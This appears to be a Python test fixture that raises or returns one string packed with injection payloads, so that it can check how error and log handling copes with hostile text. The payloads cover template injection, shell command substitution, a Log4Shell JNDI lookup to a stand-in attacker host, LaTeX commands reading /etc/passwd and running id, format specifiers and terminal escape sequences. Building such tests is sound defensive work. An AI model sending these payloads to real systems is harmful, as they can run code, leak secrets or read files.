# /// attack
# outcomes = ["crashed", "wrong"]
# says = "RuntimeError"
# ///
"""Is evaluated by whatever fills in templates: braces, percents, dollars, backslashes."""

TEXT = (
    "{{7*7}} {%% import os %%} {0.__class__.__mro__} {call} {limits.wall_seconds} {} { %s %n %(name)s %d "
    "${7*7} $(id) `id` #{7*7} ${{ secrets.GITHUB_TOKEN }} <%= 7*7 %> ${jndi:ldap://evil.example/a} "
    "\\input{/etc/passwd} \\write18{id} $\\frac{1}{0}$ \\N{BELL} \\x1b[31m \\u202e [bold red]rich[/] [link=https://evil.example]x[/link]"
)


def read_queue_twice(queue_name, messages):
    raise RuntimeError(TEXT)


def read_log_twice(stream_name, messages):
    return {TEXT: [TEXT, {TEXT: TEXT}]}
